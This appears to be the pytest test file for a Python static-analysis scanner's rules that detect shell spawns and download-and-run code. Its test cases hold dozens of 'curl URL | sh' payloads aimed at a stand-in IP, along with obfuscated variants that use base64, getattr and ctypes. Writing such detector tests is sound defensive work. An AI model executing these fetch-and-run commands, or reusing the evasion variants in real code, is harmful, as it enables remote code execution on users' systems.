"""Sandgate's own code rules (`sandgate.checks.exec_rules`) on parsed code: which rule fires where."""

from __future__ import annotations

import ast
import re

import pytest

from sandgate.checks.exec_rules import (
    CODE_DOWNLOAD,
    COMPUTED_NAME,
    DOWNLOAD_AND_RUN,
    NATIVE_SPAWN,
    SHELL_SPAWN,
    check_exec_rules,
)
from sandgate.checks.names import scan
from sandgate.findings import Level

from .conftest import REPO

D, P, S, C, N = DOWNLOAD_AND_RUN, CODE_DOWNLOAD, SHELL_SPAWN, COMPUTED_NAME, NATIVE_SPAWN
URL = "http://203.0.113.9/x"

# code -> the set of rules that must fire (and no other)
CASES = {
    # every spawn API, with a download-and-run
    f'import os\nos.system("curl {URL} | sh")': {D, S},
    f'import os\nos.popen("wget -qO- {URL} | bash").read()': {D, S},
    f'import subprocess\nsubprocess.run("curl -s {URL} | sh", shell=True)': {D, S},
    f'import subprocess\nsubprocess.check_output(["curl -s {URL} | sh"], shell=True)': {D, S},
    f'import subprocess\nsubprocess.Popen(["bash", "-c", "curl -fsSL {URL} | bash"])': {D, S},
    f'import subprocess\nsubprocess.call(["/usr/bin/env", "sh", "-c", "$(curl -s {URL})"])': {D, S},
    f'import subprocess\nsubprocess.getoutput("curl {URL} | sh")': {D, S},
    f'import commands\ncommands.getoutput("curl {URL} | sh")': {D, S},
    f'import pty\npty.spawn(["sh", "-c", "curl {URL} | sh"])': {D, S, N},
    f'import os\nos.execl("/bin/sh", "sh", "-c", "curl {URL} | sh")': {D, S, N},
    f'import os\nos.execvp("bash", ["bash", "-c", "curl {URL} | bash"])': {D, S, N},
    f'import os\nos.execle("/bin/sh", "sh", "-c", "curl {URL} | sh", {{}})': {D, S, N},
    f'import os\nos.spawnlp(os.P_WAIT, "sh", "sh", "-c", "curl {URL} | sh")': {D, S, N},
    f'import os\nos.posix_spawn("/bin/sh", ["sh", "-c", "curl {URL} | sh"], os.environ)': {D, S, N},
    f'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("curl {URL} | sh")': {D, S},
    f'import asyncio\nasync def f():\n    await asyncio.create_subprocess_exec("sh", "-c", "curl {URL} | sh")': {D, S},
    f'import asyncio\nasync def f(loop):\n    await loop.subprocess_shell(Proto, "curl {URL} | sh")': {D, S},
    f'import ctypes\nctypes.CDLL(None).system(b"curl {URL} | sh")': {D, S, N},
    f'import ctypes\nlibc = ctypes.cdll.LoadLibrary("libc.so.6")\nlibc.system("curl {URL} | sh".encode())': {D, S, N},
    f'from ctypes import CDLL\nCDLL("libc.so.6")["system"](b"curl {URL} | sh")': {D, S, N},
    # fed on stdin
    f'import subprocess, urllib.request\nsubprocess.run(["sh"], input=urllib.request.urlopen("{URL}").read())': {D},
    f'import subprocess, requests\np = subprocess.Popen(["bash"], stdin=subprocess.PIPE)\np.communicate(requests.get("{URL}").content)': {
        D
    },
    f'import subprocess, requests\nsubprocess.Popen(["sh", "-s"], stdin=subprocess.PIPE).stdin.write(requests.get("{URL}").content)': {
        D
    },
    # the command assembled, aliased, decoded or handed over
    f'import os\nURL = "{URL}"\nos.system(f"curl -fsSL {{URL}} | sh")': {D, S},
    'import os\ndef update(url):\n    os.system("curl -fsSL " + url + " | sh")': {D, S},
    'import os\nos.system("wget -qO- %s | bash" % url)': {D, S},
    'import os\nos.system("curl {} | {}".format(url, "sh"))': {D, S},
    f'import os\nc = "curl {URL}"\nc += " | sh"\nos.system(c)': {D, S},
    f'import os\ndef f(cmd="curl {URL} | sh"):\n    os.system(cmd)': {D, S},
    'import os, base64\nos.system(base64.b64decode("Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo").decode())': {D, S},
    f'import os\nos.system("{"curl " + URL + " | sh"}"[::-1][::-1])': {D, S},
    f"import shlex, subprocess\nsubprocess.run(shlex.split(\"bash -c 'curl {URL} | sh'\"))": {D, S},
    f'from subprocess import Popen as P\nP("curl {URL} | sh", shell=True)': {D, S},
    f'from os import *\nsystem("curl {URL} | sh")': {D, S},
    f'import os as o\nrun = o.system\nrun("curl {URL} | sh")': {D, S},
    f"import subprocess\nclass R:\n    def __init__(self):\n        self.run = subprocess.check_output\n"
    f'    def go(self):\n        return self.run(["sh", "-c", "curl {URL} | sh"])': {D, S},
    f'import os\nlist(map(os.system, ["curl {URL} | sh"]))': {D, S},
    f'import os, threading\nthreading.Thread(target=os.system, args=("curl {URL} | sh",)).start()': {D, S},
    f'import os, functools\nfunctools.partial(os.system, "curl {URL} | sh")()': {D, S},
    f'import subprocess\nsubprocess.run(["python3", "-c", "import urllib.request as u;exec(u.urlopen(\'{URL}\').read())"])': {
        D
    },
    f'import os\nfn = os.system if os.name == "posix" else print\nfn("curl {URL} | sh")': {D, S},
    # Python code downloaded and run; code spelled out in a string is read as code
    f'import requests\nexec(requests.get("{URL}", timeout=5).text)': {P},
    f'import urllib.request\ncode = urllib.request.urlopen("{URL}").read()\nexec(compile(code, "x", "exec"))': {P},
    f'import urllib.request\ncode = urllib.request.urlopen("{URL}").read()\neval(code)': {P},
    'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaCcp"))': {
        D,
        S,
    },
    f"eval(\"__import__('os').system('curl {URL}|sh')\")": {D, S},
    'exec("x = 1")': set(),
    "exec(source_from_config)": set(),
    # literal lookups are the direct call; computed ones are findings of their own
    f'import os\ngetattr(os, "system")("curl {URL} | sh")': {D, S},
    f'import os\nvars(os)["system"]("curl {URL} | sh")': {D, S},
    f'import sys\nsys.modules["os"].system("curl {URL} | sh")': {D, S},
    f'__import__("os").system("curl {URL} | sh")': {D, S},
    f"getattr(__import__('o' + 's'), 'system')('curl {URL} | sh')": {D, S, C},
    f"import os\ngetattr(os, 'sys' + 'tem')('curl {URL} | sh')": {D, S, C},
    f"import importlib\nm = importlib.import_module('o' + 's')\nm.system('curl {URL} | sh')": {D, S, C},
    "import os\ndef go(name, arg):\n    return getattr(os, name)(arg)": {C},
    "import os\ndef go(name, arg):\n    fn = getattr(os, name)\n    return fn(arg)": {C},
    "def go(name):\n    return __import__(name)": {C},
    "import importlib\ndef load(name):\n    return importlib.import_module(name)": {C},
    "def go(name):\n    return globals()[name]()": {C},
    'import os\ndef go(name):\n    return vars(os)[name]("id")': {C},
    'import os\ndef go(name):\n    return os.__dict__[name]("id")': {C},
    'import os\ndef go(suffix, *a):\n    return getattr(os, "exec" + suffix)(*a)': {
        C,
    },
    'import subprocess\ndef go(kind, c):\n    return getattr(subprocess, "check_" + kind)(c)': {C},
    # shell spawns without a download, native spawns
    'import os\nos.system("clear")': {S},
    'import os\ndef f(path):\n    os.system("ls -l " + path)': {S},
    'import subprocess\nsubprocess.run(["sh", "-c", "ls | wc -l"])': {S},
    'import subprocess\nsubprocess.run("make test", shell=True, check=True)': {S},
    'import pty\npty.spawn("/bin/bash")': {N},
    "import os, sys\nos.execv(sys.executable, [sys.executable] + sys.argv)": {N},
    'import os\nos.spawnv(os.P_NOWAIT, "/usr/bin/true", ["true"])': {N},
    'import ctypes\nlibc = ctypes.CDLL("libc.so.6")\nlibc.execv(b"/bin/true", None)': {N},
    # nothing to report
    'import subprocess\nsubprocess.run(["git", "status"], check=True)': set(),
    'import subprocess\nsubprocess.run(["ls"])': set(),
    'import subprocess\nsubprocess.run(["curl", "-fsS", "https://example.com/health"], check=True, timeout=10)': set(),
    'import subprocess\nsubprocess.run("make test", shell=False)': set(),
    'import shutil\nprint(shutil.which("git"))': set(),
    "import os\npid = os.fork()": set(),
    'import importlib\nimportlib.import_module("json")': set(),
    'import os\nprint(getattr(os, "sep"))': set(),
    "def field(obj, name):\n    return getattr(obj, name)": set(),  # read, not called
    'class V:\n    def visit(self, node):\n        return getattr(self, "visit_" + type(node).__name__)(node)': set(),
    "class C:\n    def run(self, cmd):\n        return getattr(self, cmd)()": set(),
    'import handlers\ndef go(kind):\n    return getattr(handlers, "handle_" + kind)()': set(),
    'import importlib\ndef load(name):\n    return importlib.import_module(f"myapp.plugins.{name}")': set(),
    'import importlib\ndef load(name):\n    return importlib.import_module("." + name, __package__)': set(),
    'def go(name):\n    return globals()["cmd_" + name]()': set(),
    'import sys\nsetattr(sys.modules[__name__], "x", 1)': set(),
    'print("curl http://example.com | sh")': set(),
}


@pytest.mark.parametrize("code", list(CASES))
def test_rules_that_fire(code):
    assert {f.rule for f in check_exec_rules(scan(ast.parse(code)))} == CASES[code]


def test_every_finding_names_line_range_cwe_severity_and_documentation():
    code = (
        "import os, subprocess\n\n"
        "def update(url, name):\n"
        "    os.system(f'curl -fsSL {url} | sh')\n"
        "    getattr(os, name)('x')\n"
        "    __import__('pty').spawn('/bin/sh')\n"
    )
    findings = check_exec_rules(scan(ast.parse(code)))
    got = {(f.rule, f.line, f.end_line, f.col, f.end_col, f.cwe, f.severity) for f in findings}
    assert got == {
        (D, 4, 4, 4, 39, 494, Level.HIGH),
        (S, 4, 4, 4, 39, 78, Level.MEDIUM),
        (C, 5, 5, 4, 21, 470, Level.MEDIUM),
        (N, 6, 6, 4, 38, 78, Level.MEDIUM),
    }
    docs = (REPO / "docs" / "rules.md").read_text()
    for finding in findings:
        assert finding.source == "rules" and finding.confidence >= Level.MEDIUM
        assert finding.message and finding.more_info.endswith(f"docs/rules.md#{finding.rule}")
        assert f'<a id="{finding.rule}"></a>' in docs, finding.rule
    download = next(f for f in findings if f.rule == D)
    assert "os.system" in download.message and "curl" in download.message and "sh" in download.message
    computed = next(f for f in findings if f.rule == C)
    assert computed.message.startswith("getattr(os, name) calls a function named at run time")


def test_shell_spawn_says_whether_the_command_is_built_at_run_time():
    constant, built = (
        check_exec_rules(scan(ast.parse(code)))[0]
        for code in ('import os\nos.system("clear")', 'import os\ndef f(p):\n    os.system("ls " + p)')
    )
    assert constant.detail("constant") is True and "built at run time" not in constant.message
    assert built.detail("constant") is False and "command injection" in built.message


def test_code_in_a_string_is_placed_on_the_call_that_runs_it():
    code = (
        "import base64\n\n"
        'exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaCcp"))\n'
    )
    findings = check_exec_rules(scan(ast.parse(code)))
    assert {(f.rule, f.line, f.col) for f in findings} == {(D, 3, 0), (S, 3, 0)}
    assert all(f.message.startswith("in the code given to exec: os.system") for f in findings)


def test_rules_never_raise_on_odd_code():
    odd = [
        "getattr()",
        "getattr(os)",
        "__import__()",
        "globals()[1]()",
        "vars()[x]()",
        "os.system()",
        "subprocess.run()",
        "subprocess.run(shell=True)",
        "os.execl()",
        "os.execv('/bin/sh')",
        "x = x\nx()",
        "a = b\nb = a\na()",
        "f'{x}'()",
        "(lambda: 0)()",
        "[][0]()",
        "'a' % ()",
        "'{}'.format()",
        "'{0[1]}'.format(x)",
        "''.join()",
        "os.system('\\x00' * 100000)",
        "import os\nos.system(b'\\xff\\xfe')",
        "import base64\nimport os\nos.system(base64.b64decode('!!!').decode())",
        "exec('exec(\"exec(\\'exec(1)\\')\")')",
        "exec('def f(:')",
        "exec('\\x00')",
    ]
    for code in odd:
        check_exec_rules(scan(ast.parse(code)))


def test_docs_list_every_rule_with_its_severity():
    docs = (REPO / "docs" / "rules.md").read_text()
    for rule, severity in ((D, "HIGH"), (P, "HIGH"), (S, "MEDIUM"), (C, "MEDIUM"), (N, "MEDIUM")):
        section = docs.split(f'<a id="{rule}"></a>', 1)[1].split("<a id=", 1)[0]
        assert re.search(rf"severity \*\*{severity}\*\*", section, re.IGNORECASE), rule
